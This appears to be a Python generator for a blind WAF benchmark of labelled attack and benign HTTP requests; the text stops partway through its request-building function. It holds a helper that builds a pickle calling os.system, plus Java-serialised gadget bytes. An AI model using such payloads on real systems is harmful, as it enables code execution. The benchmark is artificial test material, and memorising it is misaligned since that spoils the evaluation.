#!/usr/bin/env python3
# ruff: noqa
"""Blind WAF evaluation set, source tag "v21" (waf_unseen_twelfth.jsonl).

Provenance: written blind on 2026-12-07 (late night) by a helper session that
read none of the WAF's rules, tests, docs, benchmarks or corpora (only the
output-format docstring of make_waf_unseen_eleventh.py was consulted, to copy
the row format).  Attack payloads were composed from general knowledge of the
techniques (not copied from public payload lists); benign traffic was composed
from general knowledge of ordinary web/API usage.  Source tag "v21"; all
randomness comes from random.Random(121212), so two runs give byte-identical
output.  Standard library only.  Run from the repository root:

    python3 tests/data/make_waf_unseen_twelfth.py

Output: waf_unseen_twelfth.jsonl next to this script, one JSON object per
line with keys in exactly this order:

  id         "v21-a-<category>-NNNN" (attack) / "v21-b-<category>-NNNN"
             (benign), numbered per category from 0001
  label      "attack" or "benign"
  category   attack: java_injection, php_injection, code_injection, rfi,
             ssrf, rce, sqli, nosqli, ldapi, ssti, crlf, mail_injection, xss,
             path_traversal, xxe, log4shell (50 rows each, 800 in all);
             benign: benign_richtext, benign_markdown, benign_code,
             benign_search, benign_graphql, benign_files, benign_urls,
             benign_base64, benign_api_json, benign_forms, benign_headers,
             benign_email, benign_config, benign_templates, benign_logs
             (the first five kinds 74 rows, the other ten 73 rows, 1100 in
             all); 1900 rows in total.  benign_config holds YAML / TOML / INI
             / .env / nginx / systemd snippets pasted into fields or uploaded.
  method     HTTP method
  path       raw, percent-encoded request path starting with "/"
  query      raw query string without "?", "" if none
  headers    object; always Host, User-Agent, Accept (in that order, first),
             plus Content-Type when there is a body; header values are ASCII
             without CR/LF
  body       raw body ("" if none): JSON, urlencoded form, multipart/form-data
             (CRLF framing, boundary in Content-Type) or XML
  placement  query, query_key, path, json, json_key, form, header, cookie,
             multipart or xml.  For query_key / json_key the payload is the
             parameter name / object key (a json_key may sit deep inside the
             document); a form row may carry the payload as a value or as a
             field name (e.g. NoSQL "user[$ne]", Spring "class.module...");
             a json row may carry it 10+ levels deep; a multipart row carries
             it as a text field, a file's content or a file's filename; an
             xml row is either a value inside an element or (xxe, XStream,
             XMLDecoder, benign SOAP/feeds) the whole document.
  payload    the value as the application receives it after the intended
             decoding (URL-decoding for query/form/path/cookie, JSON
             unescaping, XML entity decoding; header values are not decoded).
             Deliberate encoded evasions (double percent-encoding, %uXXXX,
             overlong UTF-8, HTML entities, ...) are kept literally, i.e. the
             raw request carries them percent-encoded once more.  For JSON
             values that are objects or arrays (NoSQL operators, gadget
             objects, structured benign values) the payload is the compact
             JSON text.  For a GraphQL document with an inline injected
             argument the payload is the whole "query" string.
  hard       true for evasive attacks (20 of 50 per category) and for benign
             rows deliberately prone to false positives (about a third)
  source     "v21"

About a quarter of the attack rows (12 of 50 per category) are terse (tool
User-Agent such as curl, python-requests or Go-http-client, minimal headers);
the rest are realistic browser (about 80 %) or API-client requests (Bearer /
Basic / API-key Authorization).  Raw encodings vary per row (minimal, full,
lower-case, mixed-case and randomly over-encoded percent-encoding, "+" for
spaces, JSON \\u escapes including Go-style \\u003c, numeric character
references and CDATA in XML), always decoding to the stated payload.  No two
attack rows share a payload string, no two benign rows share one either, and
no payload occurs in both an attack and a benign row.  About a quarter of the
benign rows use API/tool clients.

Attack techniques covered include OGNL / SpEL / EL / MVEL / JEXL / Groovy /
Nashorn expressions, Spring4Shell binder keys, fastjson / Jackson / SnakeYAML
/ XStream / XMLDecoder / Java-serialised (plain, gzip, hex) gadgets; PHP
eval/variable-function/XOR/rot13/gzinflate tricks, wrappers (php://, data:,
expect://, phar://, compress.zlib://, iconv filter chains), webshell uploads
and serialised objects; Python / Node / Ruby / Perl / Lua / .NET code
injection, prototype pollution, pickle / PyYAML / Ruby YAML gadgets; RFI via
http/ftp/UNC/WebDAV/ssh2/data; SSRF to cloud metadata (AWS/GCP/Azure/Alibaba/
Oracle/DigitalOcean), internal services, gopher/dict/jar/netdoc, decimal /
octal / hex / mixed IPv4, IPv6 (mapped, ULA, compressed), rebinding hosts,
URL-parser confusion and enclosed-alphanumeric hosts; shell injection with
$IFS, brace expansion, quoting, globbing, printf/base64 staging, Windows cmd
carets and PowerShell; SQL injection for MySQL, PostgreSQL, MSSQL, Oracle,
SQLite, ClickHouse, Snowflake, BigQuery, DuckDB, H2 with comment/whitespace/
case/hex/fullwidth evasions and GraphQL-borne or JSON-in-string delivery;
MongoDB/CouchDB/Elasticsearch/Neo4j/ArangoDB/DynamoDB operator injection;
LDAP filter and DN injection with hex escapes; SSTI for Jinja2, Twig, Smarty,
Freemarker, Velocity, Pebble, Jinjava, Thymeleaf, Mako, Tornado, Cheetah,
ERB, Slim, Pug, Nunjucks, Handlebars, doT, EJS, Eta, lodash, Razor, Blade,
Latte, Go templates and Liquid (AngularJS client-side templates sit in
xss); CRLF / response splitting with LF-only, CR-only, %u, double-encoding,
U+560A/U+560D, U+010D/U+010A and NEL/LS; SMTP / IMAP / sendmail argument
injection and RFC 2047 encoded words; XSS with new event handlers, mXSS, entity and unicode
obfuscation; path traversal with overlong UTF-8, %u, fullwidth dots, Tomcat
";", Windows/UNC/ADS/8.3 paths and zip-slip filenames; XXE (classic, OOB,
error-based, local-DTD, XInclude, SVG/SOAP/SAML/XLIFF/RSS, UTF-7) and Log4Shell
lookups with nested-lookup, default-value, case and unicode obfuscation.

Bodies are valid for their Content-Type: every JSON body parses; form bodies
are urlencoded; multipart bodies use CRLF framing with the boundary named in
Content-Type; every benign XML body and every XML-value row is well-formed.
Some xxe rows are deliberately not well-formed XML (parameter-entity
references inside the internal subset, a UTF-7 document, a lower-case
doctype).
"""

import base64
import codecs
import gzip
import hashlib
import json
import os
import random
import string
import struct
import sys
import urllib.parse
import xml.etree.ElementTree as ET
import zlib

R = random.Random(121212)
SOURCE = "v21"
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "waf_unseen_twelfth.jsonl")

ATTACK_CATS = [
    "java_injection",
    "php_injection",
    "code_injection",
    "rfi",
    "ssrf",
    "rce",
    "sqli",
    "nosqli",
    "ldapi",
    "ssti",
    "crlf",
    "mail_injection",
    "xss",
    "path_traversal",
    "xxe",
    "log4shell",
]
BENIGN_KINDS = [
    "benign_richtext",
    "benign_markdown",
    "benign_code",
    "benign_search",
    "benign_graphql",
    "benign_files",
    "benign_urls",
    "benign_base64",
    "benign_api_json",
    "benign_forms",
    "benign_headers",
    "benign_email",
    "benign_config",
    "benign_templates",
    "benign_logs",
]

MARK = "\u00a7P\u00a7"  # value marker inside templates
KMARK = "\u00a7K\u00a7"  # key marker inside templates

# --------------------------------------------------------------------------
# percent-encoding
# --------------------------------------------------------------------------
ALNUM = set(string.ascii_letters + string.digits)
UNRESERVED = ALNUM | set("-._~")
FORM_SAFE = ALNUM | set("*-._")
MUST = {
    "query": set("%&=+#"),
    "form": set("%&=+#"),
    "path": set("%?#\\"),
    "cookie": set('%;, "\\'),
}
BROWSER = {
    "query": set("\"'<>`{}|\\^"),
    "form": set(),
    "path": set('"<>`{}|^'),
    "cookie": set(),
}


def _pct(bs, case):
    out = []
    for b in bs:
        h = "%02X" % b
        if case == "l" or (case == "m" and R.random() < 0.5):
            h = h.lower()
        out.append("%" + h)
    return "".join(out)


def dec(raw, ctx):
    if ctx in ("query", "form"):
        return urllib.parse.unquote_plus(raw)
    return urllib.parse.unquote(raw)


def enc(s, ctx, mode="min", plus=False):
    """Percent-encode s for ctx (query/form/path/cookie) in a given style."""
    case = "l" if mode == "lower" else ("m" if mode == "mixed" else "U")
    out = []
    for ch in s:
        o = ord(ch)
        if ch == " ":
            out.append("+" if (plus and ctx in ("query", "form")) else _pct(b" ", case))
            continue
        if o < 0x21 or o > 0x7E or ch in MUST[ctx]:
            out.append(_pct(ch.encode("utf-8"), case))
            continue
        if mode == "raw":
            out.append(ch)
        elif mode == "min":
            if (ctx == "form" and ch not in FORM_SAFE) or (ctx != "form" and ch in BROWSER[ctx]):
                out.append(_pct(ch.encode(), case))
            else:
                out.append(ch)
        elif mode in ("full", "lower"):
            if ch in UNRESERVED or (ctx == "path" and ch == "/"):
                out.append(ch)
            else:
                out.append(_pct(ch.encode(), case))
        elif mode == "mixed":
            if ch in UNRESERVED or (ctx == "path" and ch == "/"):
                out.append(_pct(ch.encode(), case) if R.random() < 0.12 else ch)
            elif ch in BROWSER[ctx] or R.random() < 0.8:
                out.append(_pct(ch.encode(), case))
            else:
                out.append(ch)
        elif mode == "over":
            if ch in BROWSER[ctx] or (ctx == "form" and ch not in FORM_SAFE):
                out.append(_pct(ch.encode(), case))
            elif R.random() < 0.3 and not (ctx == "path" and ch == "/"):
                out.append(_pct(ch.encode(), case))
            else:
                out.append(ch)
        else:
            raise ValueError(mode)
    raw = "".join(out)
    assert dec(raw, ctx) == s, (s, raw, ctx, mode)
    return raw


# --------------------------------------------------------------------------
# JSON writer with escape styles
# --------------------------------------------------------------------------
def _jstr(s, st):
    out = ['"']
    for ch in s:
        o = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch == "\n":
            out.append("\\n")
        elif ch == "\r":
            out.append("\\r")
        elif ch == "\t":
            out.append("\\t")
        elif o < 0x20 or o == 0x7F:
            out.append("\\u%04x" % o)
        elif o > 0x7E and (st.get("ascii") or R.random() < st.get("uesc", 0)):
            if o > 0xFFFF:
                v = o - 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (v >> 10), 0xDC00 + (v & 0x3FF)))
            else:
                out.append("\\u%04x" % o)
        elif st.get("html") and ch in "<>&":
            out.append("\\u%04x" % o)
        elif st.get("uesc") and R.random() < st["uesc"]:
            out.append("\\u%04X" % o if R.random() < 0.3 else "\\u%04x" % o)
        elif st.get("slash") and ch == "/":
            out.append("\\/")
        else:
            out.append(ch)
    out.append('"')
    return "".join(out)


def jdump(v, st, level=0):
    ind = st.get("indent")
    isep, ksep = st.get("sep", (",", ":"))
    if isinstance(v, dict):
        if not v:
            return "{}"
        items = [_jstr(k, st) + ksep + jdump(x, st, level + 1) for k, x in v.items()]
        if ind:
            pad = "\n" + " " * (ind * (level + 1))
            return "{" + pad + ("," + pad).join(items) + "\n" + " " * (ind * level) + "}"
        return "{" + isep.join(items) + "}"
    if isinstance(v, list):
        if not v:
            return "[]"
        items = [jdump(x, st, level + 1) for x in v]
        if ind:
            pad = "\n" + " " * (ind * (level + 1))
            return "[" + pad + ("," + pad).join(items) + "\n" + " " * (ind * level) + "]"
        return "[" + isep.join(items) + "]"
    if isinstance(v, str):
        return _jstr(v, st)
    if v is True:
        return "true"
    if v is False:
        return "false"
    if v is None:
        return "null"
    return json.dumps(v)


def compact(v):
    return json.dumps(v, separators=(",", ":"), ensure_ascii=False)


def json_style(hard, client):
    st = {}
    r = R.random()
    if r < 0.55:
        st["sep"] = (",", ":")
    elif r < 0.8:
        st["sep"] = (", ", ": ")
    else:
        st["indent"] = 2
        st["sep"] = (",", ": ")
    if client == "go":
        st["html"] = True
    if hard and R.random() < 0.45:
        st["uesc"] = R.choice([0.15, 0.3, 0.5])
    elif R.random() < 0.15:
        st["ascii"] = True
    if R.random() < 0.05:
        st["slash"] = True
    return st


# --------------------------------------------------------------------------
# XML escaping
# --------------------------------------------------------------------------
def xesc(s, mode):
    if mode == "cdata" and "]]>" not in s and "\r" not in s and not any(ord(c) < 0x20 and c not in "\n\t" for c in s):
        return "<![CDATA[" + s + "]]>"
    out = []
    for ch in s:
        if ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;")
        elif ch == ">":
            out.append("&gt;")
        elif ch == "\r":
            out.append("&#13;")
        elif mode == "ref" and not ch.isalnum() and ch not in " \n\t" and R.random() < 0.5:
            out.append("&#x%x;" % ord(ch) if R.random() < 0.5 else "&#%d;" % ord(ch))
        elif mode == "ref" and ch.isalpha() and R.random() < 0.12:
            out.append("&#%d;" % ord(ch))
        else:
            out.append(ch)
    return "".join(out)


def xml_texts(doc):
    root = ET.fromstring(doc.encode("utf-8"))
    return [el.text for el in root.iter()]


# --------------------------------------------------------------------------
# misc generators
# --------------------------------------------------------------------------
def rand_alnum(n, alphabet=string.ascii_letters + string.digits):
    return "".join(R.choice(alphabet) for _ in range(n))


def rand_hex(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def b64u(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def fake_jwt(claims=None, alg="HS256"):
    hdr = {"alg": alg, "typ": "JWT"}
    if alg == "RS256":
        hdr["kid"] = rand_hex(16)
    iat = 1765000000 + R.randint(0, 200000)
    body = {"sub": str(R.randint(10000, 9999999)), "iat": iat, "exp": iat + R.choice([900, 3600, 86400])}
    if claims:
        body.update(claims)
    sig = R.randbytes(256 if alg == "RS256" else 32)
    return b64u(compact(hdr).encode()) + "." + b64u(compact(body).encode()) + "." + b64u(sig)


def uuid4():
    h = rand_hex(32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], R.choice("89ab"), h[17:20], h[20:32])


def session_cookies(host):
    parts = []
    r = R.random()
    if r < 0.3:
        parts.append("sessionid=" + rand_alnum(32, string.ascii_lowercase + string.digits))
        parts.append("csrftoken=" + rand_alnum(32))
    elif r < 0.55:
        parts.append("PHPSESSID=" + rand_alnum(26, string.ascii_lowercase + string.digits))
    elif r < 0.75:
        parts.append("JSESSIONID=" + rand_hex(32).upper())
    elif r < 0.9:
        parts.append("connect.sid=s%3A" + rand_alnum(32) + "." + rand_alnum(43))
    else:
        parts.append("_session_id=" + rand_hex(32))
    if R.random() < 0.6:
        parts.append("_ga=GA1.1.%d.%d" % (R.randint(100000000, 2147483647), R.randint(1700000000, 1765000000)))
    if R.random() < 0.3:
        parts.append("cookie_consent=" + R.choice(["all", "necessary", "analytics%2Cfunctional"]))
    if R.random() < 0.25:
        parts.append("theme=" + R.choice(["dark", "light", "system"]))
    R.shuffle(parts)
    return parts


def py_pickle_b64(cmd):
    # protocol-0 pickle calling os.system(cmd)
    raw = b"cposix\nsystem\n(V" + cmd.encode() + b"\ntR."
    return base64.b64encode(raw).decode()


def java_ser(classes, strings=()):
    out = bytearray(b"\xac\xed\x00\x05")
    for i, c in enumerate(classes):
        out += b"sr" if i == 0 else b"sq\x00~\x00\x01sr"
        out += struct.pack(">H", len(c)) + c.encode()
        out += R.randbytes(8) + b"\x02\x00" + bytes([R.randint(1, 4)])
        out += b"L\x00\x05" + R.choice([b"queue", b"trans", b"iMeth", b"value", b"_name"])
        out += b"t\x00" + bytes([len(c) + 4]) + b"L" + c.replace(".", "/").encode() + b";xp"
    for s in strings:
        out += b"t" + struct.pack(">H", len(s)) + s.encode()
    out += b"xx"
    return bytes(out)


# --------------------------------------------------------------------------
# clients and headers
# --------------------------------------------------------------------------
HOSTS = [
    "shop.example.com",
    "www.example.org",
    "portal.acme-corp.example",
    "app.northwind.test",
    "intranet.contoso.test",
    "store.fabrikam.example",
    "crm.globex.test",
    "helpdesk.initech.example",
    "blog.example.net",
    "docs.example.com",
    "wiki.umbrella.test",
    "my.bankofexample.test",
    "cms.hooli.example",
    "jobs.example.org",
    "forum.example.net",
    "learn.wayne-ent.test",
    "booking.example.com",
    "admin.tyrell.example",
    "status.example.net",
    "git.initech.example",
]
API_HOSTS = [
    "api.example.com",
    "api.acme-corp.example",
    "gateway.northwind.test",
    "api.fabrikam.example",
    "rest.globex.test",
    "graphql.hooli.example",
    "svc.initech.example",
    "api.example.org",
]
UAS = {
    "chrome": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36",
    ],
    "firefox": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:132.0) Gecko/20100101 Firefox/132.0",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ],
    "safari": [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    ],
    "edge": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    ],
    "android": [
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
    ],
}
API_UAS = [
    ("okhttp/4.12.0", "java"),
    ("axios/1.7.7", "node"),
    ("PostmanRuntime/7.42.0", "node"),
    ("Dart/3.5 (dart:io)", "dart"),
    ("Acme/5.12.0 (iPhone; iOS 18.1; Scale/3.00)", "ios"),
    ("Apache-HttpClient/5.3.1 (Java/21.0.5)", "java"),
    ("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "node"),
    ("Faraday v2.12.0", "ruby"),
    ("HTTPie/3.2.4", "py"),
    ("insomnia/10.1.1", "node"),
    ("ReactorNetty/1.1.23", "java"),
    ("NorthwindSync/2.4.1 (+https://northwind.test/bot)", "go"),
    ("Microsoft.Graph/1.0 (.NET 8.0.10)", "net"),
    ("undici", "node"),
]
TOOL_UAS = [
    ("curl/8.5.0", "curl"),
    ("curl/7.88.1", "curl"),
    ("curl/8.11.0", "curl"),
    ("python-requests/2.31.0", "py"),
    ("python-requests/2.32.3", "py"),
    ("Go-http-client/1.1", "go"),
    ("Go-http-client/2.0", "go"),
    ("Wget/1.21.4", "wget"),
    ("python-httpx/0.27.2", "py"),
]
LANGS = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.9",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr-FR,fr;q=0.9,en;q=0.8",
    "es-ES,es;q=0.9,en;q=0.8",
    "ja,en-US;q=0.9,en;q=0.8",
    "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "nl-NL,nl;q=0.9,en;q=0.8",
    "en-US,en;q=0.5",
    "it-IT,it;q=0.9,en-US;q=0.8",
    "pl-PL,pl;q=0.9,en;q=0.8",
    "sv-SE,sv;q=0.9,en-US;q=0.8,en;q=0.7",
    "en-IN,en;q=0.9,hi;q=0.8",
    "ko-KR,ko;q=0.9,en-US;q=0.8",
]
REFERER_PATHS = [
    "/",
    "/account",
    "/dashboard",
    "/search",
    "/products",
    "/settings/profile",
    "/admin/",
    "/help",
    "/blog/",
    "/cart",
    "/orders",
    "/projects/42",
    "/inbox",
    "/docs/getting-started",
]
NAV_ACCEPT = {
    "chrome": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "edge": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "android": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "firefox": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "safari": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}


def browser_headers(host, method, ctype, nav):
    fam = R.choices(["chrome", "firefox", "safari", "edge", "android"], [45, 20, 15, 10, 10])[0]
    h = {"Host": host, "User-Agent": R.choice(UAS[fam])}
    if nav:
        h["Accept"] = NAV_ACCEPT[fam]
    else:
        h["Accept"] = R.choice(
            [
                "application/json, text/plain, */*",
                "*/*",
                "application/json",
                "application/json, text/javascript, */*; q=0.01",
            ]
        )
    h["Accept-Language"] = R.choice(LANGS)
    h["Accept-Encoding"] = "gzip, deflate, br" if fam == "safari" else "gzip, deflate, br, zstd"
    if ctype:
        h["Content-Type"] = ctype
    if method not in ("GET", "HEAD") or (not nav and R.random() < 0.3):
        h["Origin"] = "https://" + host
    h["Referer"] = "https://" + host + R.choice(REFERER_PATHS)
    if fam in ("chrome", "edge", "android"):
        h["Sec-Fetch-Site"] = "same-origin"
        h["Sec-Fetch-Mode"] = "navigate" if nav else "cors"
        h["Sec-Fetch-Dest"] = "document" if nav else "empty"
    if nav and method == "GET" and R.random() < 0.5:
        h["Upgrade-Insecure-Requests"] = "1"
    if not nav and R.random() < 0.35:
        h["X-Requested-With"] = "XMLHttpRequest"
    if not nav and R.random() < 0.4:
        h["X-CSRF-Token"] = rand_alnum(40, string.ascii_letters + string.digits + "-_")
    return h, fam, session_cookies(host)


def api_headers(host, method, ctype):
    ua, client = R.choice(API_UAS)
    h = {
        "Host": host,
        "User-Agent": ua,
        "Accept": R.choice(
            [
                "application/json",
                "application/json",
                "application/json, text/plain, */*",
                "*/*",
                "application/vnd.api+json",
            ]
        ),
    }
    r = R.random()
    if r < 0.6:
        h["Authorization"] = "Bearer " + fake_jwt(alg=R.choice(["HS256", "RS256"]))
    elif r < 0.75:
        user = R.choice(["svc-reporting", "integration", "ci-bot", "admin@northwind.test", "deploy"])
        h["Authorization"] = "Basic " + base64.b64encode((user + ":" + rand_alnum(18)).encode()).decode()
    elif r < 0.88:
        h["X-API-Key"] = R.choice(["ak_live_", "key-", "pk_", ""]) + rand_alnum(32)
    else:
        h["Authorization"] = "Token " + rand_hex(40)
    if ctype:
        h["Content-Type"] = ctype
    if R.random() < 0.5:
        h["X-Request-ID"] = uuid4()
    if R.random() < 0.5:
        h["Accept-Encoding"] = "gzip"
    return h, client, []


def terse_headers(host, method, ctype):
    ua, client = R.choice(TOOL_UAS)
    h = {"Host": host, "User-Agent": ua, "Accept": "*/*"}
    if client == "py":
        h["Accept-Encoding"] = "gzip, deflate"
    if ctype:
        h["Content-Type"] = ctype
    return h, client, []


def boundary_for(fam_or_client):
    c = fam_or_client
    if c in ("chrome", "edge", "android", "safari"):
        return "----WebKitFormBoundary" + rand_alnum(16)
    if c == "firefox":
        return (
            "----geckoformboundary" + rand_hex(32)
            if R.random() < 0.5
            else "-" * 27 + "".join(R.choice(string.digits) for _ in range(29))
        )
    if c == "curl":
        return "-" * 22 + rand_hex(16)
    if c == "py":
        return rand_hex(32)
    if c == "go":
        return rand_hex(60)
    if c == "java":
        return uuid4()
    if c == "node":
        return "--------------------------" + "".join(R.choice(string.digits) for _ in range(24))
    return "----" + rand_alnum(24)


def multipart_body(parts, boundary):
    out = []
    for pt in parts:
        out.append("--" + boundary + "\r\n")
        cd = 'Content-Disposition: form-data; name="%s"' % pt["name"]
        if "filename" in pt:
            cd += '; filename="%s"' % pt["filename"]
        out.append(cd + "\r\n")
        if "ctype" in pt:
            out.append("Content-Type: " + pt["ctype"] + "\r\n")
        out.append("\r\n" + pt["value"] + "\r\n")
    out.append("--" + boundary + "--\r\n")
    return "".join(out)


QFILL = [
    "page=1",
    "page=2",
    "lang=en",
    "sort=relevance",
    "limit=20",
    "per_page=50",
    "utm_source=newsletter",
    "utm_medium=email",
    "ref=nav",
    "view=grid",
    "format=json",
    "v=2",
    "tab=overview",
    "locale=en_US",
    "_=%d" % 1765090000123,
    "offset=0",
    "debug=false",
    "include=author",
    "region=eu-west-1",
    "currency=EUR",
]
FFILL = [
    ("csrf_token", None),
    ("_token", None),
    ("remember", "on"),
    ("locale", "en"),
    ("submit", "Save"),
    ("redirect", "/dashboard"),
    ("action", "update"),
    ("step", "2"),
    ("source", "web"),
]
JFILL = [
    ("locale", "en-US"),
    ("client", "web"),
    ("version", 2),
    ("dryRun", False),
    ("requestId", None),
    ("timezone", "Europe/Berlin"),
    ("source", "dashboard"),
    ("page", 1),
    ("includeArchived", False),
]
NEST = [
    "data",
    "attributes",
    "payload",
    "settings",
    "config",
    "spec",
    "options",
    "filters",
    "meta",
    "params",
    "input",
    "body",
    "item",
    "details",
    "context",
    "profile",
    "extra",
    "rule",
    "condition",
    "value",
    "args",
    "fields",
    "properties",
    "query",
    "criteria",
    "step",
    "action",
    "template",
    "node",
    "children",
]


def fill_value(v):
    if v is None:
        return rand_alnum(R.choice([32, 40]))
    return v


def substitute(obj, pv, is_key):
    """Replace MARK (value) / KMARK (key) in a template structure."""
    if isinstance(obj, dict):
        out = {}
        for k, v in obj.items():
            nk = pv if (is_key and k == KMARK) else k
            out[nk] = substitute(v, pv, is_key)
        return out
    if isinstance(obj, list):
        return [substitute(x, pv, is_key) for x in obj]
    if isinstance(obj, str) and obj == MARK and not is_key:
        return pv
    if isinstance(obj, str) and obj == "\u00a7ID\u00a7":
        return uuid4()
    return obj


def generic_doc(param, deep, is_key, kval):
    doc = {}
    for k, v in R.sample(JFILL, R.randint(0, 2)):
        doc[k] = fill_value(v) if v is not None else uuid4()
    inner = {KMARK: kval} if is_key else {param: MARK}
    if R.random() < 0.6:
        k2, v2 = R.choice(
            [
                ("name", "Quarterly sync"),
                ("enabled", True),
                ("id", R.randint(100, 99999)),
                ("type", "custom"),
                ("priority", "normal"),
                ("tags", ["ops"]),
            ]
        )
        if k2 not in inner:
            inner[k2] = v2
            if R.random() < 0.5:
                inner = dict(reversed(list(inner.items())))
    if deep:
        keys = R.sample(NEST, deep)
        for i, k in enumerate(reversed(keys)):
            if R.random() < 0.15:
                inner = {k: [inner]}
            else:
                inner = {k: inner}
        doc.update(inner)
    else:
        doc.update(inner)
    if R.random() < 0.5 and doc:
        items = list(doc.items())
        R.shuffle(items)
        doc = dict(items)
    return doc


def choose_mode(hard, style):
    if style == "terse":
        return R.choice(["raw", "raw", "min"]) if not hard else R.choice(["mixed", "over", "full", "lower", "raw"])
    if style == "browser":
        return (
            ("min" if R.random() < 0.9 else "full") if not hard else R.choice(["min", "mixed", "over", "full", "lower"])
        )
    return R.choice(["min", "full", "full", "lower"]) if not hard else R.choice(["mixed", "over", "full", "lower"])


def build(ctx, spec, style, benign=False):
    p, pl, o, hard = spec["p"], spec["pl"], spec["o"], spec["h"]
    if benign:
        hard = False  # benign "hard" means false-positive prone, not evasively encoded
    if style == "api" and R.random() < 0.7:
        host = o.get("host") or R.choice(API_HOSTS)
    else:
        host = o.get("host") or R.choice(ctx.get("hosts", HOSTS))
    ep = o.get("ep") or R.choice(ctx["eps"])
    extra_q = ""
    if "?" in ep:
        ep, extra_q = ep.split("?", 1)
    param = o.get("param") or R.choice(ctx["params"])
    mode = o.get("mode") or choose_mode(hard, style)
    plus = o.get("plus", R.random() < 0.5)
    method = o.get("method")
    payload = p
    query = ""
    body = ""
    ctype = None
    nav = True
    path = ep
    fparts = None
    extra_h = {}
    cookie_pl = None
    qpairs = None

    def qfill():
        return [tuple(x.split("=", 1)) for x in R.sample(QFILL, R.choice([0, 0, 1, 1, 2, 3]))]

    if pl in ("query", "query_key"):
        method = method or "GET"
        if "qs" in o:
            pairs = [tuple(x) for x in o["qs"]]
        else:
            pairs = qfill()
            if pl == "query":
                pairs.insert(R.randint(0, len(pairs)), (param, MARK))
            else:
                kval = o.get("kval", R.choice(["1", "", "true", None]))
                pairs.insert(R.randint(0, len(pairs)), (KMARK, kval))
        raw = []
        for k, v in pairs:
            if k == KMARK:
                s = enc(p, "query", mode, plus)
            else:
                s = enc(k, "query", "min" if style != "terse" else "raw", plus)
            if v is None:
                raw.append(s)
                continue
            if v == MARK:
                s += "=" + (o["raw"] if "raw" in o else enc(p, "query", mode, plus))
            else:
                s += "=" + enc(v, "query", "min", plus)
            raw.append(s)
        query = "&".join(raw)
        if extra_q:
            query = extra_q + ("&" + query if query else "")
        if "body" in o:
            ctype, body = o["body"]
    elif pl == "path":
        method = method or "GET"
        pre = o.get("pre", ep.rstrip("/") + "/")
        path = pre + (o["raw"] if "raw" in o else enc(p, "path", mode)) + o.get("suf", "")
        if "qs" in o:
            query = "&".join(enc(k, "query", "min") + "=" + enc(v, "query", "min") for k, v in o["qs"])
        elif extra_q:
            query = extra_q
    elif pl in ("json", "json_key"):
        method = method or R.choice(["POST", "POST", "POST", "PUT", "PATCH"])
        nav = False
        is_key = pl == "json_key"
        if o.get("jobj"):
            pv = json.loads(p)
            payload = compact(pv)
        else:
            pv = p
        if "doc" in o:
            doc = substitute(json.loads(json.dumps(o["doc"])), pv, is_key)
        else:
            doc = substitute(generic_doc(param, o.get("deep", 0), is_key, o.get("kval", True)), pv, is_key)
        ctype = o.get("ctype") or R.choice(
            [
                "application/json",
                "application/json",
                "application/json;charset=UTF-8",
                "application/json; charset=utf-8",
            ]
        )
        fparts = ("json", doc)
        if extra_q:
